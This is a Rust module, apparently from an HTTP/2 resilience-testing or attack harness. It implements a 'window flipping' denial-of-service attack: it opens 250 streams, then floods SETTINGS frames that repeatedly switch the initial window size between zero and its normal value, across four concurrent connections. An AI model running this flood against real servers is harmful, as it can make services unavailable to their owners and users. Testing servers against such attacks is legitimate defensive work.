//! Windows that are opened and closed all the time, each of which concerns all streams.

use std::sync::Arc;

use super::{
    peer::flood,
    stage::{Attack, HEALTH_CHECK, Target},
    wire::{Block, FIRST_WINDOW, Frames, INITIAL_WINDOW_SIZE, stream},
};

pub(super) const FLIPPING: Attack =
    Attack::by_anybody("window_flipping", |target| Box::pin(flipping(target)));

async fn flipping(target: Arc<Target>) {
    let headers = Block::call(HEALTH_CHECK, None);
    let open = |frames: Frames, number| frames.headers(stream(number), &headers);
    let opening = (0..250).fold(Frames::opening(&[]), open);
    let flip = |frames: Frames, _| {
        frames
            .settings(&[(INITIAL_WINDOW_SIZE, 0)])
            .settings(&[(INITIAL_WINDOW_SIZE, FIRST_WINDOW)])
    };
    let flips = (0..500).fold(Frames::new(), flip);
    let one = |_| flood(&target, opening.clone(), |_| Some(flips.clone()));
    futures_util::future::join_all((0..4).map(one)).await;
}
